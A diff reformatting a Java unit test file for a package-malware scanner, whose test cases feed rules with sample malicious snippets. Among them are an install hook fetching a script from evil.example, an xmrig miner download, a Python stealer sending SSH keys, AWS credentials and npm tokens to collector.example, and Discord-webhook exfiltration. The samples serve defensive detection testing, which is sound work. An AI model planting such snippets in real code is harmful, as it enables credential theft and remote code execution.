@@ -17,39 +17,43 @@ import org.junit.jupiter.api.Test;
 /** Each content rule on a small malicious-looking sample (with its evidence) and on a benign look-alike. */
 class ContentRulesTest {
 
-  private static SourceFile source(String path, String text) {
-    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
-    FileKind kind = FileKind.classify(path, bytes, Math.min(bytes.length, 512));
-    long longest = text.lines().mapToLong(String::length).max().orElse(0);
-    return new SourceFile(path, kind, text, false, bytes.length, longest);
-  }
+    private static SourceFile source(String path, String text) {
+        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
+        FileKind kind = FileKind.classify(path, bytes, Math.min(bytes.length, 512));
+        long longest = text.lines().mapToLong(String::length).max().orElse(0);
+        return new SourceFile(path, kind, text, false, bytes.length, longest);
+    }
 
-  private static List<Finding> check(ContentRule rule, String path, String text) {
-    return rule.check(source(path, text));
-  }
+    private static List<Finding> check(ContentRule rule, String path, String text) {
+        return rule.check(source(path, text));
+    }
 
-  private static Finding only(ContentRule rule, String path, String text) {
-    List<Finding> findings = check(rule, path, text);
-    assertThat(findings).as("findings of %s on %s", rule.id(), path).hasSize(1);
-    return findings.getFirst();
-  }
+    private static Finding only(ContentRule rule, String path, String text) {
+        List<Finding> findings = check(rule, path, text);
+        assertThat(findings).as("findings of %s on %s", rule.id(), path).hasSize(1);
+        return findings.getFirst();
+    }
 
-  @Test
-  void startupHooks() {
-    Finding pth = only(new StartupHooks(), "demo-setup.pth",
-        "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n");
-    assertThat(pth.severity()).isEqualTo(Severity.HIGH);
-    assertThat(pth.line()).isEqualTo(1);
-    assertThat(pth.message()).contains("runs code at every Python start-up");
+    @Test
+    void startupHooks() {
+        Finding pth =
+                only(new StartupHooks(), "demo-setup.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\n");
+        assertThat(pth.severity()).isEqualTo(Severity.HIGH);
+        assertThat(pth.line()).isEqualTo(1);
+        assertThat(pth.message()).contains("runs code at every Python start-up");
 
-    Finding pathOnly = only(new StartupHooks(), "setuptools.pth",
-        "import os; enabled = os.environ.get('X') == '1'; enabled and __import__('_hack').add_shim();\n");
-    assertThat(pathOnly.severity()).isEqualTo(Severity.LOW);
-    assertThat(check(new StartupHooks(), "paths.pth", "/opt/lib/python\n../vendor\n")).isEmpty();
+        Finding pathOnly = only(
+                new StartupHooks(),
+                "setuptools.pth",
+                "import os; enabled = os.environ.get('X') == '1'; enabled and __import__('_hack').add_shim();\n");
+        assertThat(pathOnly.severity()).isEqualTo(Severity.LOW);
+        assertThat(check(new StartupHooks(), "paths.pth", "/opt/lib/python\n../vendor\n"))
+                .isEmpty();
 
-    assertThat(only(new StartupHooks(), "sitecustomize.py", "print('hi')\n").severity()).isEqualTo(Severity.MEDIUM);
+        assertThat(only(new StartupHooks(), "sitecustomize.py", "print('hi')\n").severity())
+                .isEqualTo(Severity.MEDIUM);
 
-    Finding setup = only(new StartupHooks(), "demo-1.0/setup.py", """
+        Finding setup = only(new StartupHooks(), "demo-1.0/setup.py", """
         from setuptools import setup
         from setuptools.command.install import install
         import urllib.request
@@ -58,17 +62,21 @@ class ContentRulesTest {
                 urllib.request.urlretrieve('https://evil.example/x.sh', '/tmp/x.sh')
         setup(name='demo', cmdclass={'install': Evil})
         """);
-    assertThat(setup.severity()).isEqualTo(Severity.HIGH);
+        assertThat(setup.severity()).isEqualTo(Severity.HIGH);
 
-    Finding npm = only(new StartupHooks(), "package/package.json", "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}");
-    assertThat(npm.severity()).isEqualTo(Severity.MEDIUM);
-    assertThat(npm.excerpt()).contains("node setup_bun.js");
-    assertThat(check(new StartupHooks(), "package/package.json", "{\"scripts\":{\"test\":\"jest\"}}")).isEmpty();
-  }
+        Finding npm = only(
+                new StartupHooks(),
+                "package/package.json",
+                "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}");
+        assertThat(npm.severity()).isEqualTo(Severity.MEDIUM);
+        assertThat(npm.excerpt()).contains("node setup_bun.js");
+        assertThat(check(new StartupHooks(), "package/package.json", "{\"scripts\":{\"test\":\"jest\"}}"))
+                .isEmpty();
+    }
 
-  @Test
-  void importTimeSideEffectsTheLightningShape() {
-    List<Finding> findings = check(new ImportTimeSideEffects(), "lightning/__init__.py", """
+    @Test
+    void importTimeSideEffectsTheLightningShape() {
+        List<Finding> findings = check(new ImportTimeSideEffects(), "lightning/__init__.py", """
         import os, subprocess, sys, threading
         __version__ = "2.6.2"
 
@@ -79,105 +87,141 @@ class ContentRulesTest {
 
         threading.Thread(target=_start_runtime, daemon=True).start()
         """);
-    assertThat(findings).singleElement().satisfies(f -> {
-      assertThat(f.severity()).isEqualTo(Severity.HIGH);
-      assertThat(f.message()).contains("background thread at import").contains("output discarded");
-      assertThat(f.line()).isEqualTo(9);
-      assertThat(f.excerpt()).contains("threading.Thread(target=_start_runtime, daemon=True).start()");
-    });
+        assertThat(findings).singleElement().satisfies(f -> {
+            assertThat(f.severity()).isEqualTo(Severity.HIGH);
+            assertThat(f.message()).contains("background thread at import").contains("output discarded");
+            assertThat(f.line()).isEqualTo(9);
+            assertThat(f.excerpt()).contains("threading.Thread(target=_start_runtime, daemon=True).start()");
+        });
 
-    Finding system = check(new ImportTimeSideEffects(), "pkg/__init__.py", "import os\nos.system('wget http://x/xmrig')\n").getFirst();
-    assertThat(system.severity()).isEqualTo(Severity.HIGH);
-    assertThat(system.message()).contains("os.system");
+        Finding system = check(
+                        new ImportTimeSideEffects(), "pkg/__init__.py", "import os\nos.system('wget http://x/xmrig')\n")
+                .getFirst();
+        assertThat(system.severity()).isEqualTo(Severity.HIGH);
+        assertThat(system.message()).contains("os.system");
 
-    // A function that can run a process, a docstring example, and a helper module: nothing at import.
-    assertThat(check(new ImportTimeSideEffects(), "pkg/__init__.py", """
+        // A function that can run a process, a docstring example, and a helper module: nothing at import.
+        assertThat(check(new ImportTimeSideEffects(), "pkg/__init__.py", """
         \"\"\"Usage:
         >>> r = requests.get('https://example.org')
         \"\"\"
         import subprocess
         def run(cmd):
             return subprocess.run(cmd, check=True)
-        """)).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
-    assertThat(check(new ImportTimeSideEffects(), "pkg/helpers.py", "import os\nos.system('ls')\n")).isEmpty();
-  }
+        """))
+                .singleElement()
+                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
+        assertThat(check(new ImportTimeSideEffects(), "pkg/helpers.py", "import os\nos.system('ls')\n"))
+                .isEmpty();
+    }
 
-  @Test
-  void downloadAndExecuteTheBunLoader() {
-    Finding loader = only(new DownloadAndExecute(), "lightning/_runtime/start.py", """
+    @Test
+    void downloadAndExecuteTheBunLoader() {
+        Finding loader = only(new DownloadAndExecute(), "lightning/_runtime/start.py", """
         import os, subprocess, urllib.request, zipfile
         URL = "https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip"
         urllib.request.urlretrieve(URL, "/tmp/bun.zip")
         subprocess.run(["/tmp/bun/bun", "router_runtime.js"])
         """);
-    assertThat(loader.severity()).isEqualTo(Severity.HIGH);
-    assertThat(loader.message()).contains("downloads a JavaScript runtime").contains("line 4");
-    assertThat(loader.line()).isEqualTo(2);
+        assertThat(loader.severity()).isEqualTo(Severity.HIGH);
+        assertThat(loader.message()).contains("downloads a JavaScript runtime").contains("line 4");
+        assertThat(loader.line()).isEqualTo(2);
 
-    assertThat(only(new DownloadAndExecute(), "x/miner.sh", "./xmrig -o pool.supportxmr.com:8080\n").message()).contains("miner");
-    assertThat(only(new DownloadAndExecute(), "docs/install.py", "print('get it from https://github.com/a/b/releases/download/v1/tool.exe')\n")
-        .severity()).isEqualTo(Severity.LOW);
-    assertThat(check(new DownloadAndExecute(), "pkg/net.py", "import requests\nrequests.get('https://pypi.org/simple/')\n")).isEmpty();
-  }
-
-  @Test
-  void obfuscation() {
-    StringBuilder js = new StringBuilder("var _0x4f2a=['");
-    for (int i = 0; i < 3000; i++) {
-      js.append(String.format(java.util.Locale.ROOT, "_0x%04x", i * 7 % 65536)).append(' ');
+        assertThat(only(new DownloadAndExecute(), "x/miner.sh", "./xmrig -o pool.supportxmr.com:8080\n")
+                        .message())
+                .contains("miner");
+        assertThat(only(
+                                new DownloadAndExecute(),
+                                "docs/install.py",
+                                "print('get it from https://github.com/a/b/releases/download/v1/tool.exe')\n")
+                        .severity())
+                .isEqualTo(Severity.LOW);
+        assertThat(check(
+                        new DownloadAndExecute(),
+                        "pkg/net.py",
+                        "import requests\nrequests.get('https://pypi.org/simple/')\n"))
+                .isEmpty();
     }
-    js.append("'];function _0x1b3c(_0x2d4e){return _0x4f2a[_0x2d4e];}");
-    List<Finding> mangled = check(new Obfuscation(), "pkg/_runtime/router_runtime.js", js.toString());
-    assertThat(mangled).extracting(Finding::severity).contains(Severity.HIGH);
-    assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("mangled like obfuscator output"));
-    assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("a single line of"));
 
-    Finding decode = only(new Obfuscation(), "pkg/x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
-    assertThat(decode.severity()).isEqualTo(Severity.HIGH);
-    assertThat(decode.line()).isEqualTo(2);
+    @Test
+    void obfuscation() {
+        StringBuilder js = new StringBuilder("var _0x4f2a=['");
+        for (int i = 0; i < 3000; i++) {
+            js.append(String.format(java.util.Locale.ROOT, "_0x%04x", i * 7 % 65536))
+                    .append(' ');
+        }
+        js.append("'];function _0x1b3c(_0x2d4e){return _0x4f2a[_0x2d4e];}");
+        List<Finding> mangled = check(new Obfuscation(), "pkg/_runtime/router_runtime.js", js.toString());
+        assertThat(mangled).extracting(Finding::severity).contains(Severity.HIGH);
+        assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("mangled like obfuscator output"));
+        assertThat(mangled).anySatisfy(f -> assertThat(f.message()).contains("a single line of"));
 
-    assertThat(only(new Obfuscation(), "pkg/y.py", "s = chr(111)+chr(115)+chr(46)+chr(115)+chr(121)+chr(115)+chr(116)\n").severity())
-        .isEqualTo(Severity.MEDIUM);
+        Finding decode = only(new Obfuscation(), "pkg/x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
+        assertThat(decode.severity()).isEqualTo(Severity.HIGH);
+        assertThat(decode.line()).isEqualTo(2);
 
-    java.util.Random random = new java.util.Random(3);
-    byte[] blob = new byte[3000];
-    random.nextBytes(blob);
-    Finding encoded = only(new Obfuscation(), "pkg/z.py", "DATA = '" + java.util.Base64.getEncoder().encodeToString(blob) + "'\n");
-    assertThat(encoded.message()).contains("encoded blob of 4000 characters");
+        assertThat(only(
+                                new Obfuscation(),
+                                "pkg/y.py",
+                                "s = chr(111)+chr(115)+chr(46)+chr(115)+chr(121)+chr(115)+chr(116)\n")
+                        .severity())
+                .isEqualTo(Severity.MEDIUM);
 
-    assertThat(check(new Obfuscation(), "pkg/plain.py", "def add(a, b):\n    return a + b\n")).isEmpty();
-  }
+        java.util.Random random = new java.util.Random(3);
+        byte[] blob = new byte[3000];
+        random.nextBytes(blob);
+        Finding encoded = only(
+                new Obfuscation(),
+                "pkg/z.py",
+                "DATA = '" + java.util.Base64.getEncoder().encodeToString(blob) + "'\n");
+        assertThat(encoded.message()).contains("encoded blob of 4000 characters");
 
-  @Test
-  void credentialHarvesting() {
-    Finding stealer = only(new CredentialHarvesting(), "pkg/collect.py", """
+        assertThat(check(new Obfuscation(), "pkg/plain.py", "def add(a, b):\n    return a + b\n"))
+                .isEmpty();
+    }
+
+    @Test
+    void credentialHarvesting() {
+        Finding stealer = only(new CredentialHarvesting(), "pkg/collect.py", """
         import os, json, urllib.request
         keys = open(os.path.expanduser('~/.ssh/id_rsa')).read()
         aws = open(os.path.expanduser('~/.aws/credentials')).read()
         npm = open(os.path.expanduser('~/.npmrc')).read()
         urllib.request.urlopen('https://collector.example/', data=json.dumps([keys, aws, npm]).encode())
         """);
-    assertThat(stealer.severity()).isEqualTo(Severity.HIGH);
-    assertThat(stealer.message()).contains("SSH keys").contains("AWS credentials").contains("npm tokens").contains("network");
-    assertThat(stealer.line()).isEqualTo(2);
+        assertThat(stealer.severity()).isEqualTo(Severity.HIGH);
+        assertThat(stealer.message())
+                .contains("SSH keys")
+                .contains("AWS credentials")
+                .contains("npm tokens")
+                .contains("network");
+        assertThat(stealer.line()).isEqualTo(2);
 
-    assertThat(only(new CredentialHarvesting(), "runner.js", "const m = fs.readFileSync(`/proc/${pid}/mem`)\n").message())
-        .contains("another process's memory");
-    // twine and distutils read .pypirc to upload: low, also next to network code.
-    assertThat(only(new CredentialHarvesting(), "twine/settings.py", "import requests\nCONFIG = '~/.pypirc'\n").severity())
-        .isEqualTo(Severity.LOW);
-  }
+        assertThat(only(new CredentialHarvesting(), "runner.js", "const m = fs.readFileSync(`/proc/${pid}/mem`)\n")
+                        .message())
+                .contains("another process's memory");
+        // twine and distutils read .pypirc to upload: low, also next to network code.
+        assertThat(only(new CredentialHarvesting(), "twine/settings.py", "import requests\nCONFIG = '~/.pypirc'\n")
+                        .severity())
+                .isEqualTo(Severity.LOW);
+    }
 
-  @Test
-  void exfiltration() {
-    List<Finding> findings = check(new Exfiltration(), "pkg/send.js", """
+    @Test
+    void exfiltration() {
+        List<Finding> findings = check(new Exfiltration(), "pkg/send.js", """
         fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST', body: data});
         fetch('http://94.154.172.43/v1/telemetry');
         octokit.repos.createForAuthenticatedUser({name: 'x', description: 'A Mini Shai-Hulud has Appeared'});
         """);
-    assertThat(findings).extracting(Finding::severity).containsExactly(Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM);
-    assertThat(findings.get(2).excerpt()).contains("94.154.172.43");
+        assertThat(findings)
+                .extracting(Finding::severity)
+                .containsExactly(Severity.HIGH, Severity.MEDIUM, Severity.MEDIUM);
+        assertThat(findings.get(2).excerpt()).contains("94.154.172.43");
 
-    assertThat(check(new Exfiltration(), "pkg/dev.py", "URL = 'http://127.0.0.1:8000/'\nDOC = 'http://192.168.1.1/'\n")).isEmpty();
-  }
+        assertThat(check(
+                        new Exfiltration(),
+                        "pkg/dev.py",
+                        "URL = 'http://127.0.0.1:8000/'\nDOC = 'http://192.168.1.1/'\n"))
+                .isEmpty();
+    }
 }
